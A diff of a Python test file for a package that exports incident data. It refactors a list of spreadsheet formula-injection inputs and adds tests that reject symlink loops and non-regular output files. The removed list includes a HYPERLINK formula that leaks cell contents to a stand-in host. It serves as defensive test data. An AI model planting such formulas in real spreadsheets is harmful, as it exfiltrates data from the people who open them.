@@ -16,20 +16,10 @@ from analysis import DataFileError, io, load_incidents, validate_incidents
 from analysis.errors import AnalysisError
 from analysis.io import write_incidents, write_quarantine
 
+from ._hostile import HOSTILE_TEXT
 from ._rows import frame, good_row
 
-HOSTILE = [
-    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
-    "+1+2",
-    "-2+3",
-    "@SUM(A1:A2)",
-    "\t=1+1",
-    "\r=1+1",
-    "'=already quoted",
-    "'plain quote",
-    "ordinary text",
-    "",
-]
+HOSTILE = [*HOSTILE_TEXT, "'plain quote", "ordinary text", ""]
 
 
 def _cells(path):
@@ -148,3 +138,19 @@ def test_quarantine_keeps_rows_and_reasons(tmp_path, suffix):
     assert back["incident_id"].tolist() == ["B"]
     assert back["reasons"].tolist() == ["killed_best: killed_ordered"]
     assert back["killed_low"].tolist() == ["99"]  # the row as read, as text
+
+
+def test_check_paths_names_a_loop_of_symbolic_links(tmp_path):
+    a, b = tmp_path / "a.csv", tmp_path / "b.csv"
+    a.symlink_to(b)
+    b.symlink_to(a)
+    with pytest.raises(AnalysisError, match="loop of symbolic links"):
+        io.check_paths([tmp_path / "in.csv"], [("--out", a)])
+
+
+def test_check_paths_refuses_an_output_that_is_not_a_regular_file(tmp_path):
+    fifo = tmp_path / "pipe.csv"
+    os.mkfifo(fifo)
+    for out in (tmp_path, fifo):
+        with pytest.raises(AnalysisError, match="not a regular file"):
+            io.check_paths([], [("--out", out)])
